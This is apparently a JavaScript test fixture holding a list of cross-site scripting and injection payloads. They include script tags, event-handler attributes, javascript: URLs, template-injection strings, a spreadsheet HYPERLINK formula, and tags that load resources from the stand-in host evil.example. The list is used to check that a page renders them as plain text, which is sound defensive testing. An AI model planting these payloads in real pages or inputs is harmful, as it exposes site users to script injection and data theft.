// Texts that a page must show as texts, whatever they look like. Each that would come to life sets
// globalThis.evil, makes an element with data-evil, or asks another host.
const made = (text) => text.replaceAll('X', 'globalThis.evil=1');

export const payloads = [
  '<script>X</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '"><script>X</script>',
  '\'><script>X</script>',
  '</textarea><script>X</script>',
  '</title><script>X</script>',
  '</style><script>X</script>',
  '--><script>X</script>',
  ']]><script>X</script>',
  '<img src=x onerror=X>',
  '<img src=//evil.example/p.png data-evil>',
  '"><img src=x onerror=X>',
  '<svg onload=X><g data-evil></g></svg>',
  '<svg><script>X</script></svg>',
  '<svg><a xlink:href="javascript:X"><text>x</text></a></svg>',
  '<math><mtext><img src=x onerror=X></mtext></math>',
  '<iframe src="javascript:X" data-evil></iframe>',
  '<iframe srcdoc="<script>parent.evil=1</script>"></iframe>',
  '<object data="//evil.example/x.swf" data-evil></object>',
  '<embed src="//evil.example/x" data-evil>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css";*{display:none}</style>',
  '<form action="//evil.example/"><button data-evil>x</button></form>',
  '<a href="javascript:X" data-evil>x</a>',
  '<details open ontoggle=X>x</details>',
  '<input autofocus onfocus=X>',
  '<body onload=X>',
  '<marquee onstart=X data-evil>x</marquee>',
  '<video><source onerror=X></video>',
  '" onmouseover="X" data-evil="',
  '\' autofocus onfocus=\'X',
  'javascript:X',
  '{{constructor.constructor("X")()}}',
  '${X}#{X}<%= X %>',
  '&lt;script&gt;X&lt;/script&gt;&#60;img src=x onerror=X&#62;',
  '=HYPERLINK("http://evil.example/","x")',
  '\u202e\u2066txt.exe\u200f\u200b\u2067abc',
  '\ufeffA\u0300\u0301\u0302\u0303👩‍👩‍👧‍👦𠮷\u2028\u2029',
].map(made);

// Those that may be filed and written to others: no direction is turned in them.
export const tame = payloads.filter((p) => !/[\u202e\u2066-\u2069\ufeff]/.test(p));

// All of them in one text, and a text as long as one can be.
export const all = payloads.join('\n');
export const long = `开头${'很长的文字<b data-evil>'.repeat(6000)}`.slice(0, 60000);
